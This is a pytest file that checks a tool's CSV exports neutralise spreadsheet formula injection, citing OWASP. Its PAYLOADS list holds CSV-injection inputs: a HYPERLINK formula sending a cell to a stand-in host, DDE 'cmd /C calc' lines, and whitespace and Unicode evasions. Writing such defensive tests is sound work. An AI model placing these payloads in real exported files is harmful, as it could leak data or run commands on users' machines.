"""Issue 21, point 8: every spreadsheet output goes through one writer that neutralises
cells a spreadsheet would run as a formula (OWASP « CSV Injection »)."""

import csv
import io

from hypothesis import given, settings
from hypothesis import strategies as st

from evalir_desktop.cli import main as evalir
from evalir_desktop.domain.answers import Answer
from evalir_desktop.spreadsheet import csv_bytes, is_dangerous, safe_cell
from tests.report.factories import demo_assessment

PAYLOADS = [
    '=HYPERLINK("http://x.example/?"&A1;"Cliquez")',
    "+cmd|' /C calc'!A0",
    "-2+3+cmd|' /C calc'!A0",
    "@SUM(1+1)*cmd|' /C calc'!A0",
    "\t=1+1",
    "\r=1+1",
    "  =1+1",
    "\u200b=1+1",
    "\uff1dHYPERLINK(1)",
]


def cells(payload: bytes) -> list[str]:
    rows = csv.reader(io.StringIO(payload.decode("utf-8-sig")), delimiter=";")
    return [cell for row in rows for cell in row]


def formula_like(cell: str) -> bool:
    return is_dangerous(cell)


def test_every_csv_export_neutralises_formulas(store, tmp_path, capsys):
    assessment_id = demo_assessment(store, comment_length=10, actions=0)
    for index, payload in enumerate(PAYLOADS):
        store.plan.add_action(assessment_id, payload, owner=payload, note=payload)
        store.answers.save(
            assessment_id,
            ["besoin.probleme", "contexte.finalite", "donnees.sources"][index % 3],
            Answer(value=payload, comment=payload),
        )
    store.close()
    for fmt in ("reponses-csv", "plan-csv", "inventaire-csv", "fournisseur-csv"):
        out = tmp_path / f"{fmt}.csv"
        code = evalir(["export", str(store.path), "--format", fmt, "-o", str(out)])
        assert code == 0, capsys.readouterr().err
        written = cells(out.read_bytes())
        assert not [cell for cell in written if formula_like(cell)], fmt
        if fmt in ("reponses-csv", "plan-csv"):
            kept = [cell[1:] for cell in written if cell.startswith("'")]
            assert set(kept) & set(PAYLOADS), fmt  # the text kept, behind an apostrophe


def test_numbers_stay_numbers():
    assert safe_cell(-5) == -5 and safe_cell(2.5) == 2.5
    assert safe_cell("-5") == "-5" and safe_cell("+3") == "+3" and safe_cell("12,5") == "12,5"
    assert safe_cell("-2+3") == "'-2+3"
    assert safe_cell(None) == ""


@settings(max_examples=200, deadline=None)
@given(st.lists(st.lists(st.one_of(st.text(), st.integers(), st.none()), max_size=4), max_size=5))
def test_no_cell_of_any_table_starts_a_formula(rows):
    """Property: whatever the cells, no written cell starts a formula, and removing the
    apostrophe gives back the text."""
    payload = csv_bytes(["a", "b", "c", "d"], rows)
    written = list(csv.reader(io.StringIO(payload.decode("utf-8-sig"), newline=""), delimiter=";"))
    for row, source in zip(written[1:], rows, strict=True):
        for cell, value in zip(row, source, strict=True):
            assert not is_dangerous(cell)
            text = "" if value is None else str(value)
            assert cell == text or (cell == "'" + text and is_dangerous(text))
